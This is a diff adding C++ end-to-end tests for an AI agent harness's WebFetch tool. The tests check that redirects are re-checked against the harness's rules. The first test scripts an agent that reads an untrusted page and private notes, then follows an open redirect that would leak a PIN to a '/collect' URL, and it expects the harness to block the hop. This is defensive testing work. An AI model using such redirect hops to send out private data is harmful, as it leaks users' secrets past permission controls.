@@ -231,6 +231,70 @@ TEST_F(WebFetchE2E, ADomainDenyRuleStopsTheFetch) {
   EXPECT_EQ(web_.requests().size(), 1u);
 }
 
+// Every hop is a new request (issue 45): an open redirect on an allowed domain leads to a
+// host that is not allowed, with the private data in its URL. The first request is not a
+// send and goes; the hop is one, in a run holding both legs, and is refused before any
+// connection: the server sees the allowed request and never the one carrying the PIN.
+TEST_F(WebFetchE2E, ARedirectOutOfTheAllowedDomainsIsASend) {
+  allow_private("allowed_domains = [\"localhost\"]\n");
+  const std::string port = std::to_string(web_.port());
+  web_.page("/collect", "text/plain", "thanks");
+  web_.redirect("/go", web_.url("/collect?pin=4711"));  // 127.0.0.1, not localhost
+  const std::string start = "http://localhost:" + port + "/go";
+  const std::string lines =
+      tool_line("main", "t1", "FetchPage", {{"url", "https://pizza.example"}}) +
+      tool_line("main", "t2", "ReadNotes", Json::object()) +
+      tool_line("main", "t3", "WebFetch", {{"url", start}}) + text_line("main", "done");
+  auto ev = run_on("summarise the pizza page", lines);
+  Json refusal = refusal_of(ev, "t3");
+  ASSERT_TRUE(refusal.is_object()) << "the redirect was followed";
+  EXPECT_EQ(refusal.at("rule"), "trifecta");
+  EXPECT_NE(refusal.at("message").get<std::string>().find("/collect?pin=4711"), std::string::npos)
+      << refusal.dump();
+  Json r = result_of(ev, "t3");
+  EXPECT_EQ(r.at("is_error"), true);
+  EXPECT_NE(r.at("content").get<std::string>().find("redirect 1 of " + start + " to " +
+                                                    web_.url("/collect")),
+            std::string::npos)
+      << r.dump();
+  ASSERT_EQ(web_.requests().size(), 1u);
+  EXPECT_EQ(web_.requests()[0].path, "/go");
+  EXPECT_EQ(ev.back().at("blocked_sends"), 1);
+
+  // Before the run holds both legs the same hop is no send to refuse: it is followed.
+  auto clean = run_on(
+      "open it", tool_line("main", "c1", "WebFetch", {{"url", start}}) + text_line("main", "done"));
+  EXPECT_FALSE(refusal_of(clean, "c1").is_object()) << refusal_of(clean, "c1").dump();
+  EXPECT_EQ(result_of(clean, "c1").at("is_error"), false) << result_of(clean, "c1").dump();
+  ASSERT_EQ(web_.requests().size(), 3u);
+  EXPECT_EQ(web_.requests()[2].path, "/collect");
+}
+
+// A WebFetch(domain:...) deny rule holds at every hop, not only for the URL the model wrote:
+// a redirect to the denied host is refused by the rule, and the host hears nothing.
+TEST_F(WebFetchE2E, ADomainDenyRuleHoldsForARedirect) {
+  allow_private();
+  dir_.write(".home/.claude/settings.json",
+             R"J({"permissions": {"deny": ["WebFetch(domain:localhost)"]}})J");
+  const std::string port = std::to_string(web_.port());
+  web_.page("/x", "text/plain", "reached");
+  web_.redirect("/r", "http://localhost:" + port + "/x");
+  auto ev = run_on(
+      "fetch",
+      tool_line("main", "d1", "WebFetch", {{"url", web_.url("/r")}}) + text_line("main", "done"),
+      {"--permission-mode", "default"});
+  Json refusal = refusal_of(ev, "d1");
+  ASSERT_TRUE(refusal.is_object()) << "the redirect to a denied domain was followed";
+  EXPECT_EQ(refusal.at("rule"), "permission");
+  EXPECT_NE(refusal.at("message").get<std::string>().find("WebFetch(domain:localhost)"),
+            std::string::npos)
+      << refusal.dump();
+  EXPECT_EQ(result_of(ev, "d1").at("is_error"), true);
+  ASSERT_EQ(web_.requests().size(), 1u);
+  EXPECT_EQ(web_.requests()[0].path, "/r");
+  EXPECT_EQ(web_.requests()[0].header("Host"), "127.0.0.1:" + port);
+}
+
 // WebSearch is offered only with a backend, asks it with the query, and its results are
 // untrusted.
 TEST_F(WebFetchE2E, WebSearchAsksTheConfiguredBackend) {
